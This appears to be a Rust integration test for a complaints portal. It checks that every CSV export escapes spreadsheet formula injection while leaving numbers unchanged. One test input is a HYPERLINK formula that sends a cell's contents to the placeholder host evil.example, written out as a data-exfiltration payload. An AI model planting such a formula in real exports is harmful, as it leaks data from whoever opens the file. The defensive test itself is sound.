//! Every CSV the portal writes neutralises text a spreadsheet would run as a formula, and
//! leaves numbers as numbers.

use rocket::http::Status;

use crate::common::{TestApp, send};
use recours::domain::account::Role;

const NAMES: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+1",
    "-2",
    "@x",
];

fn rows(body: &str) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    (header, reader.records().map(Result::unwrap).collect())
}

fn col(header: &csv::StringRecord, name: &str) -> usize {
    header.iter().position(|h| h == name).unwrap()
}

#[test]
fn formulas_typed_by_people_are_neutralised_in_every_csv() {
    let app = TestApp::new();
    app.logged_in_as("filer@example.org", Role::Subscriber);
    for (i, name) in NAMES.iter().enumerate() {
        let slug = format!("p{i}");
        app.provider(&slug, name, Some(1000), None);
        for _ in 0..5 {
            app.filed(&[
                ("provider", slug.as_str()),
                ("description", "=1+2 is what I was charged"),
                ("share_with_associations", "on"),
            ]);
        }
    }

    let public = app.get("/stats/providers.csv");
    assert_eq!(public.status, Status::Ok);
    let (header, public) = rows(&public.body);
    assert_eq!(public.len(), NAMES.len());
    for name in NAMES {
        let row = public
            .iter()
            .find(|r| r[col(&header, "name")] == format!("'{name}"))
            .unwrap_or_else(|| panic!("{name} neutralised in {public:?}"));
        assert_eq!(
            &row[col(&header, "complaints")],
            "5",
            "numbers stay numbers"
        );
        assert_eq!(&row[col(&header, "subscribers")], "1000");
        assert_eq!(&row[col(&header, "claimed_EUR")], "445.00");
    }

    let reviewer = app.client_as("assoc@example.org", Role::Reviewer);
    let records = send(reviewer.get("/review/complaints.csv"));
    assert_eq!(records.status, Status::Ok);
    let (header, records) = rows(&records.body);
    assert_eq!(records.len(), 20);
    for row in &records {
        let name = &row[col(&header, "provider_name")];
        assert!(
            NAMES.iter().any(|n| name == format!("'{n}")),
            "{name} neutralised"
        );
        assert_eq!(
            &row[col(&header, "description")],
            "'=1+2 is what I was charged"
        );
        assert_eq!(&row[col(&header, "amount_claimed")], "89.00");
    }
}
